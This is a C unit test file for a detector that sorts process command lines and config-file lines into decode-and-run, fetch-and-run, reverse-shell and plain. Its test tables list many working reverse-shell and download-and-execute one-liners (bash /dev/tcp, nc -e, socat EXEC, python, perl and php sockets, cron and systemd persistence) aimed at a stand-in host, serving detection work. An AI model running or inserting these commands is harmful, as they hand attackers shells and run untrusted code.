/* SPDX-License-Identifier: Apache-2.0 */
/* Which programs in arguments are told from the many that are ordinary. */
#include "unit/cmocka_all.h"

#include <stdlib.h>
#include <string.h>

#include "core/cleanup.h"
#include "core/proccode.h"

static const struct {
	const char *exe, *text;
	enum proccode code;
} rows[] = {
	/* what intruders and their tools write */
	{"/bin/bash", "bash -c echo c2g= | base64 -d | bash", PROCCODE_DECODES},
	{"/bin/dash", "sh -c echo c2g=|base64 --decode|/bin/sh -s x", PROCCODE_DECODES},
	{"/bin/bash", "bash -c eval \"$(base64 -d <<< c2g=)\"", PROCCODE_DECODES},
	{"/bin/bash", "bash -c xxd -r -p /a | sudo bash", PROCCODE_DECODES},
	{"/usr/bin/python3.11", "python3 -c import base64;exec(base64.b64decode('eA=='))",
	 PROCCODE_DECODES},
	{"/usr/bin/perl", "perl -e use MIME::Base64;eval decode_base64('eA==')", PROCCODE_DECODES},
	{"/usr/bin/php8.2", "php -r eval(gzinflate(base64_decode('eA==')));", PROCCODE_DECODES},
	{"/usr/bin/node", "node -e eval(Buffer.from('eA==', 'base64').toString() + atob('eA=='))",
	 PROCCODE_DECODES},
	{"/bin/dash", "sh -c curl -fsSL http://203.0.113.7/x | sh", PROCCODE_FETCHES},
	{"/bin/dash", "sh -c (curl -s x||wget -q -O- x)|bash -s -- a;", PROCCODE_FETCHES},
	{"/bin/bash", "bash -c wget -qO- x | python3 -", PROCCODE_FETCHES},
	{"/bin/bash", "bash -c sh -c \"$(curl -fsSL x)\"", PROCCODE_FETCHES},
	{"/bin/bash", "bash -c bash <(curl -s x)", PROCCODE_FETCHES},
	{"/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.7/443 0>&1", PROCCODE_REMOTE},
	{"/bin/bash", "bash -c sh -i 5<> /dev/tcp/1.2.3.4/4 0<&5 1>&5", PROCCODE_REMOTE},
	{"/usr/bin/python3",
	 "python3 -c import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('sh')",
	 PROCCODE_REMOTE},
	{"/usr/bin/perl", "httpd -e use Socket;open(STDIN,'>&S');exec('/bin/sh -i');",
	 PROCCODE_REMOTE},
	{"/usr/bin/php", "php -r $s=fsockopen('1.2.3.4',4);exec('/bin/sh -i <&3 >&3');",
	 PROCCODE_REMOTE},
	{"/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444", PROCCODE_HANDS_OUT},
	{"/usr/bin/busybox", "nc -lvpe sh", PROCCODE_HANDS_OUT},
	{"/usr/bin/busybox", "busybox nc 203.0.113.7 4444 -e /bin/ash", PROCCODE_HANDS_OUT},
	{"/usr/bin/ncat", "ncat --sh-exec bash -l", PROCCODE_HANDS_OUT},
	{"/usr/bin/socat", "socat TCP:203.0.113.7:443 EXEC:'bash -li',pty,stderr",
	 PROCCODE_HANDS_OUT},
	{"/usr/bin/socat", "socat tcp-l:5 system:/bin/sh", PROCCODE_HANDS_OUT},
	{"/bin/bash", "bash -c while sleep 3; do curl -s x -o /tmp/x && sh /tmp/x; done",
	 PROCCODE_FETCHES},
	{"/bin/dash", "sh -c wget -qO /tmp/y x; chmod +x /tmp/y; /tmp/y -d", PROCCODE_FETCHES},
	{"/bin/bash", "bash -c curl x > .z\n. .z", PROCCODE_FETCHES},
	{"/usr/bin/perl", "perl -e $c=`curl -s x`; system($c)", PROCCODE_FETCHES},
	{"/usr/bin/python3", "python3 -c os.popen(urlopen('http://x').read())", PROCCODE_FETCHES},
	{"/usr/bin/gawk", "gawk BEGIN{s=\"/inet/tcp/0/x/4\"; s |& getline c; c |& getline}",
	 PROCCODE_REMOTE},
	{"/usr/bin/python3",
	 "python3 -c s=socket.create_connection(a);s.send(getoutput(s.recv(9)))", PROCCODE_REMOTE},
	{"/usr/bin/perl", "perl -MIO::Socket -e while($s->recv($c,9)){print `$c`}",
	 PROCCODE_REMOTE},
	{"/bin/bash", "bash -c eval \"$(echo 9 peels | rev)\"", PROCCODE_DECODES},
	{"/usr/bin/python3", "python3 -c exec(bytes([105, 109]))", PROCCODE_DECODES},
	/* what entry points, health checks and servers write */
	{"/bin/dash", "sh -c curl -o /tmp/a.tgz x && tar xzf /tmp/a.tgz && sh install",
	 PROCCODE_PLAIN},
	{"/bin/dash", "sh -c curl -fo /dev/null http://x || sh /dev/null", PROCCODE_PLAIN},
	{"/bin/dash", "sh -c wget -O /srv/model x; python3 serve.py /srv/model", PROCCODE_PLAIN},
	{"/bin/dash", "sh -c curl -s -o - http://x; exec -- app", PROCCODE_PLAIN},
	{"/usr/bin/node", "node -e require('http').get('http://x', r => process.exit(r.a))",
	 PROCCODE_PLAIN},
	{"/usr/bin/python3", "python3 -c s=socket.create_connection(a);print(s.recv(9))",
	 PROCCODE_PLAIN},
	{"/bin/dash", "/bin/sh -c curl -f http://localhost/ || exit 1", PROCCODE_PLAIN},
	{"/bin/dash", "sh -c wget -q -O - http://localhost | grep -q ok", PROCCODE_PLAIN},
	{"/bin/bash", "bash -c curl -s http://x/api | python3 -m json.tool", PROCCODE_PLAIN},
	{"/bin/bash", "bash -c curl -s x | python3 -c 'import json,sys; json.load(sys.stdin)'",
	 PROCCODE_PLAIN},
	{"/bin/bash", "bash -c curl -s x | bash -c 'cat >/dev/null'", PROCCODE_PLAIN},
	{"/bin/bash", "bash -c curl -s x | sh /app/filter.sh", PROCCODE_PLAIN},
	{"/bin/bash", "bash -c curl -s x | sh -sc id", PROCCODE_PLAIN},
	{"/bin/bash", "bash -c curl x || sh /app/fallback.sh", PROCCODE_PLAIN},
	{"/bin/bash", "bash -c curl -s x | perl -pe 's/a/b/'", PROCCODE_PLAIN},
	{"/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/8080; echo GET >&3; cat <&3",
	 PROCCODE_PLAIN},
	{"/bin/bash", "bash -c until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
	 PROCCODE_PLAIN},
	{"/bin/dash", "sh -c echo $KEY | base64 -d > /run/tls.key && exec app", PROCCODE_PLAIN},
	{"/bin/dash", "sh -c exec gunicorn --bind unix:/run/app.socket app:app", PROCCODE_PLAIN},
	{"/usr/bin/python3", "python3 -c import socket; socket.create_connection(('db', 5432))",
	 PROCCODE_PLAIN},
	{"/usr/bin/python3", "python -c from multiprocessing.spawn import spawn_main; spawn_main()",
	 PROCCODE_PLAIN},
	{"/usr/bin/python3", "python3 -c import sys;exec(eval(sys.stdin.readline()))",
	 PROCCODE_PLAIN},
	{"/usr/bin/python3", "python3 -c import base64; print(base64.b64decode('eA=='))",
	 PROCCODE_PLAIN},
	{"/usr/bin/node", "node -e require('net').connect(80)", PROCCODE_PLAIN},
	{"/usr/bin/busybox", "nc -lk -p 80", PROCCODE_PLAIN},
	{"/usr/bin/nc.openbsd", "nc -z db 5432", PROCCODE_PLAIN},
	{"/usr/bin/socat", "socat TCP-LISTEN:80,fork EXEC:/app/answer", PROCCODE_PLAIN},
	{"/usr/bin/socat", "socat TCP-LISTEN:80,fork UNIX-CONNECT:/run/app.sock", PROCCODE_PLAIN},
	{"/bin/dash", "sh", PROCCODE_PLAIN},
	{"/bin/dash", "", PROCCODE_PLAIN},
	{"", "", PROCCODE_PLAIN},
};

static void code_is_told_by_words_that_fit_together(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		enum proccode code = proccode_judge(rows[i].exe, rows[i].text);

		if (code != rows[i].code)
			fail_msg("%s: %d, not %d", rows[i].text, code, rows[i].code);
	}
}

static void a_long_run_of_encoded_bytes_is_told(void **state)
{
	char text[2048] = "python3 -c x='";
	size_t len = strlen(text);

	(void)state;
	memset(text + len, 'Q', 900);
	assert_int_equal(proccode_judge("/usr/bin/python3", text), PROCCODE_PLAIN);
	memset(text + len, 'Q', 1100);
	assert_int_equal(proccode_judge("/usr/bin/python3", text), PROCCODE_ENCODED);
	text[len + 600] = ' ';
	assert_int_equal(proccode_judge("/usr/bin/python3", text), PROCCODE_PLAIN);
}

static const struct {
	const char *line;
	enum proccode code;
} lines[] = {
	{"* * * * * root nc -e /bin/sh 203.0.113.7 4444", PROCCODE_REMOTE},
	{"PROMPT_COMMAND='ncat 203.0.113.7 4444 -e bash'", PROCCODE_REMOTE},
	{"ExecStart=/usr/bin/socat TCP:203.0.113.7:4 EXEC:sh,pty", PROCCODE_REMOTE},
	{"python3 -c 'import socket,pty;s=socket.socket();pty.spawn(\"sh\")'", PROCCODE_REMOTE},
	{"bash -i >& /dev/tcp/203.0.113.7/443 0>&1", PROCCODE_REMOTE},
	{"ls() { curl -s x -o /tmp/.z; . /tmp/.z; }", PROCCODE_FETCHES},
	{"echo c2g= | base64 -d | sh", PROCCODE_DECODES},
	{"ExecStart=/bin/sh -c 'exec app --socket /run/app.socket'", PROCCODE_PLAIN},
	{"nc -z db 5432 || exit 1", PROCCODE_PLAIN},
	{"python3 -m http.server", PROCCODE_PLAIN},
	{"alias curl='curl -s'", PROCCODE_PLAIN},
	{"", PROCCODE_PLAIN},
};

static void lines_of_files_are_judged_alike(void **state)
{
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(lines); i++)
		if (proccode_line(lines[i].line) != lines[i].code)
			fail_msg("%s: not %d", lines[i].line, lines[i].code);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(lines_of_files_are_judged_alike),
		cmocka_unit_test(code_is_told_by_words_that_fit_together),
		cmocka_unit_test(a_long_run_of_encoded_bytes_is_told),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
